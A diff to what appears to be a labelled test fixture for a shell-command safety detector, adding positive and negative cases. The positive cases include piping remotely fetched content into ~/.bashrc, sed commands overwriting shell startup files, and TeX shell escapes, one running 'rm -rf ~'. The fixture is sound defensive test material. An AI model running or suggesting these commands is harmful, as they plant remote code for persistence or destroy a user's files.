@@ -479,3 +479,21 @@ capsh -- -c "$job"
 git submodule foreach --recursive "$1"
 #@ pos pee given code built at run time
 pee "$1" cat
+#@ pos sed's w command writing a shell's startup file
+curl -fsSL https://h/rc | sed -n "w $HOME/.bashrc"
+sed -n '1,$w ~/.profile' /tmp/gen
+sed -n 's/^#//w ~/.zshrc' /tmp/tpl
+#@ neg sed's w command writing a log or a backup
+sed -n "/ERROR/w $HOME/errors.log" app.log
+sed -n "w $HOME/.bashrc.bak" ~/.bashrc
+#@ pos a TeX document with \write18 or \ShellEscape
+cat > /tmp/r.tex <<'X'
+\immediate\write18{rm -rf ~}
+X
+lualatex --shell-escape '\immediate\write18{id}\end'
+printf '%s\n' '\ShellEscape{id}' > x.tex
+#@ neg a TeX document writing an auxiliary file
+cat > /tmp/d.tex <<'X'
+\immediate\write\out{\today}
+X
+pdflatex -interaction=nonstopmode report.tex
